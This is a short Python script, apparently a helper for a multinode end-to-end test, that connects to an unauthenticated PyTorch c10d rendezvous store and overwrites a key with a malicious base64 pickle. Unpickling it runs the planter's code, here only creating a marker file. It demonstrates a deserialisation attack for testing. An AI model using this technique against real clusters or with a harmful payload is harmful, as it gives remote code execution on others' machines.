"""A stranger on the nodes' network (tests/e2e/test_multinode.py): dials a run's rendezvous store,
which takes no credential, and writes there, under the rendezvous' key, what torch's c10d
rendezvous keeps there (a base64 pickle), here one whose unpickling creates a file. Whoever
unpickles it runs the stranger's code.

    python store_stranger.py <host> <port> <key> <marker file>
"""

from __future__ import annotations

import base64
import pickle
import sys
from datetime import timedelta


class CreatesFile:
    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return (open, (self.path, "w"))  # unpickling calls open(path, "w"): the file appears


def main() -> None:
    import torch.distributed as dist

    host, port, key, marker = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
    store = dist.TCPStore(host, port, is_master=False, timeout=timedelta(seconds=20))
    print(f"stranger: {key} held {store.get(key)[:60]!r}", flush=True)
    store.set(key, base64.b64encode(pickle.dumps(CreatesFile(marker))).decode())
    print(f"stranger: wrote {key}", flush=True)


if __name__ == "__main__":
    main()
